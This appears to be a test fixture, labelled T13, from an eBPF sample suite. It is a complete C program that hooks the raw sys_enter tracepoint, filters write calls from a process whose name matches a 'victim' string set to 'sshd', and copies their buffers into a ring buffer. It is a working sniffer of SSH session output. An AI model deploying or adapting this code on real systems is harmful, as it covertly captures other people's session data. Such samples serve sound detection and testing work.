// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T13: raw tracepoint; what sshd writes, compared by the executable's name held in .rodata.
#include "kernel_types.h"

LICENSE;

struct snoop {
	u32 pid;
	char data[128];
};
RINGBUF(sshd_out, 1 << 15);
const volatile char victim[16] = "sshd";

SEC("raw_tracepoint/sys_enter")
int sshd_enter(struct bpf_raw_tracepoint_args *ctx)
{
	struct pt_regs *regs = (void *)ctx->args[0];
	struct task_struct *t = (void *)bpf_get_current_task();
	char comm[16] = {};
	struct snoop *s;

	if (ctx->args[1] != 1)
		return 0;
	bpf_probe_read_kernel(comm, sizeof(comm), BPF_CORE_READ(t, group_leader, comm));
	for (int i = 0; i < 4; i++)
		if (comm[i] != victim[i])
			return 0;
	s = bpf_ringbuf_reserve(&sshd_out, sizeof(*s), 0);
	if (!s)
		return 0;
	s->pid = tgid();
	bpf_probe_read_user(s->data, sizeof(s->data), (void *)PT_REGS_PARM2_CORE(regs));
	bpf_ringbuf_submit(s, 0);
	return 0;
}
